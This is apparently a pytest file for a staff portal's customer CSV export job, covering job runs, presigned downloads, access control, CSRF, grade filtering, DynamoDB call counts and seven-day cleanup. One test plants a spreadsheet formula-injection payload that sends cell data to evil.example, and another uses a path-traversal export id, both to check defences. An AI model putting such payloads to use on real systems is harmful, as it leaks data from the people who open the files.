"""Issue 12 item 4: the customers CSV is a job — asked for with one write, written by `functions.write_exports`
a page of standings at a time, downloaded through a presigned link by the one who asked (or MD), else 404."""

import csv
import io
import re
from datetime import timedelta
from urllib.parse import urlsplit

from portal.adapters import aws
from portal.adapters.clock import utc_now
from portal.adapters.tables import Export
from portal.services import export_jobs
from tests.conftest import api_token, bearer, count_aws_calls, csrf_token, sign_in
from tests.factories import admitted, register, stand

NO_EVAL = {"no_evaluation_reason": "测试准备：不经评价直接调整"}  # GRD-6: promoted without an evaluation


def run_job(now=None) -> dict:
    from functions import write_exports

    return write_exports.run({"now": now.isoformat()} if now else {})


def download(client, export_id: str) -> str:
    """Follow the download link to the stored file and read it (as a browser would, from the bucket)."""
    answer = client.get(f"/staff/exports/{export_id}/download")
    assert answer.status_code == 302
    url = urlsplit(answer.headers["Location"])
    assert "X-Amz-Expires=300" in url.query or "Expires=" in url.query
    key = url.path.lstrip("/").removeprefix("test-documents/")
    body = aws.client("s3").get_object(Bucket="test-documents", Key=key)["Body"].read()
    assert body.startswith("\ufeff".encode())  # UTF-8 BOM: Excel reads Chinese right
    return body.decode("utf-8").lstrip("\ufeff")


def only_export() -> Export:
    [export] = list(Export.scan())  # the test's own look at the table, not the portal's
    return export


def test_request_run_download_has_the_rows_formula_safe(app):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    customer, _ctx = register(name=hostile)
    stand(customer, "ortho")
    others = admitted("ortho", 4)
    client = app.test_client()
    sign_in(client, "ortho.clerk@demo.local")
    token = csrf_token(client, "/staff/departments/ortho/customers")
    assert client.post("/staff/departments/ortho/exports", data={"grade": ""}).status_code == 400  # no CSRF
    answer = client.post("/staff/departments/ortho/exports", data={"csrf_token": token, "grade": ""})
    assert answer.status_code == 302 and answer.headers["Location"].endswith("/staff/exports")
    export = only_export()
    assert export.status == "pending" and export.pending_bucket == "pending" and export.dept_id == "ortho"
    page = client.get("/staff/exports").get_data(as_text=True)
    assert "正在生成" in page and f"/staff/exports/{export.export_id}/download" not in page
    assert client.get(f"/staff/exports/{export.export_id}/download").status_code == 404  # not ready yet
    result = run_job()
    assert result["ready"] == [export.export_id] and result["failed"] == []
    assert run_job()["ready"] == []  # a second run finds nothing pending: idempotent
    page = client.get("/staff/exports").get_data(as_text=True)
    assert f"/staff/exports/{export.export_id}/download" in page and "可下载" in page
    rows = list(csv.DictReader(io.StringIO(download(client, export.export_id))))
    assert {r["customer_id"] for r in rows} == {customer.customer_id, *others}
    [row] = [r for r in rows if r["customer_id"] == customer.customer_id]
    assert row["name"] == "'" + hostile and row["priority_rank"] == "3"
    listed = client.get("/api/v1/exports", headers=bearer(api_token(app.test_client(), "ortho.clerk@demo.local")))
    assert [e["id"] for e in listed.get_json()["items"]] == [export.export_id]


def test_an_export_of_one_grade_has_only_that_grade(app):
    ids = admitted("ortho", 20)  # 20 customers: one VIP place (QTA)
    leader = api_token(app.test_client(), "ortho.leader@demo.local")
    changed = app.test_client().post(f"/api/v1/departments/ortho/customers/{ids[1]}/grade",
                                     headers=bearer(leader), json={"grade": "VIP", **NO_EVAL, "reason": "优秀"})
    assert changed.status_code == 200
    created = app.test_client().post("/api/v1/departments/ortho/exports", headers=bearer(leader),
                                     json={"grade": "VIP"})
    assert created.status_code == 201 and created.get_json()["status"] == "pending"
    export_id = created.get_json()["id"]
    run_job()
    got = app.test_client().get(f"/api/v1/exports/{export_id}", headers=bearer(leader)).get_json()
    assert got["status"] == "ready" and got["rows"] == 1 and got["download_url"].startswith("http")
    client = app.test_client()
    sign_in(client, "ortho.leader@demo.local")
    rows = list(csv.DictReader(io.StringIO(download(client, export_id))))
    assert [(r["customer_id"], r["grade"]) for r in rows] == [(ids[1], "VIP")]


def test_only_the_one_who_asked_and_MD_may_download_others_and_forged_ids_get_404(app):
    admitted("ortho", 2)
    clerk = app.test_client()
    sign_in(clerk, "ortho.clerk@demo.local")
    token = csrf_token(clerk, "/staff/departments/ortho/customers")
    clerk.post("/staff/departments/ortho/exports", data={"csrf_token": token, "grade": ""})
    export = only_export()
    run_job()
    for who in ("rehab.leader", "ortho.rep", "leader"):  # another department's staff, a colleague, leadership
        other = app.test_client()
        sign_in(other, f"{who}@demo.local")
        assert other.get(f"/staff/exports/{export.export_id}/download").status_code == 404, who
        assert f"/staff/exports/{export.export_id}/download" not in other.get("/staff/exports").get_data(as_text=True)
        got = app.test_client().get(f"/api/v1/exports/{export.export_id}",
                                    headers=bearer(api_token(app.test_client(), f"{who}@demo.local")))
        assert got.status_code == 404, who
    md = app.test_client()
    sign_in(md, "md.admin@demo.local")
    assert md.get(f"/staff/exports/{export.export_id}/download").status_code == 302
    assert clerk.get("/staff/exports/01JFORGEDEXPORTID000000000/download").status_code == 404
    assert clerk.get("/staff/exports/..%2F..%2Fetc/download").status_code == 404
    rehab = app.test_client()
    sign_in(rehab, "rehab.rep@demo.local")
    assert rehab.post("/staff/departments/ortho/exports",
                      data={"csrf_token": csrf_token(rehab, "/staff/exports"), "grade": ""}).status_code == 403
    assert len(list(Export.scan())) == 1


def test_a_bad_grade_changes_nothing(app):
    leader = api_token(app.test_client(), "ortho.leader@demo.local")
    answer = app.test_client().post("/api/v1/departments/ortho/exports", headers=bearer(leader),
                                    json={"grade": "GOLD"})
    assert answer.status_code == 422 and "grade" in answer.get_json()["error"]["fields"]
    assert list(Export.scan()) == []


def test_the_jobs_dynamodb_calls_follow_pages_of_standings_not_records(app):
    """450 standings at 200 a page: 3 Queries of standings, whatever else the job does stays fixed."""
    from portal.adapters.tables import Standing

    with Standing.batch_write() as batch:
        for i in range(450):
            batch.save(Standing(dept_id="ortho", customer_id=f"c{i:04d}", customer_name=f"客户{i}", grade="QUALIFIED",
                                dept_grade="ortho#QUALIFIED", products={"bone-plate"}, admitted_at=utc_now()))
    leader = api_token(app.test_client(), "ortho.leader@demo.local")
    app.test_client().post("/api/v1/departments/ortho/exports", headers=bearer(leader), json={})
    with count_aws_calls() as calls:
        result = run_job()
    assert len(result["ready"]) == 1 and only_export().rows == 450
    dynamo = {op: n for op, n in calls.items() if op.startswith("dynamodb.")}
    # the pending Query, 3 pages of standings, the commit, the expired Query
    assert dynamo == {"dynamodb.Query": 1 + 3 + 1, "dynamodb.TransactWriteItems": 1}, dynamo
    assert calls["s3.PutObject"] == 1


def test_exports_are_removed_with_their_file_after_seven_days(app):
    admitted("ortho", 1)
    leader = api_token(app.test_client(), "ortho.leader@demo.local")
    export_id = app.test_client().post("/api/v1/departments/ortho/exports", headers=bearer(leader),
                                       json={}).get_json()["id"]
    run_job()
    key = only_export().s3_key
    assert re.fullmatch(r"exports/ortho/[A-Za-z0-9_-]{32}\.csv", key)
    assert run_job(utc_now() + timedelta(days=6))["removed"] == []
    assert run_job(utc_now() + export_jobs.KEEP + timedelta(minutes=1))["removed"] == [export_id]
    assert list(Export.scan()) == []
    assert aws.client("s3").list_objects_v2(Bucket="test-documents", Prefix="exports/").get("KeyCount", 0) == 0
    assert run_job(utc_now() + export_jobs.KEEP + timedelta(minutes=2))["removed"] == []
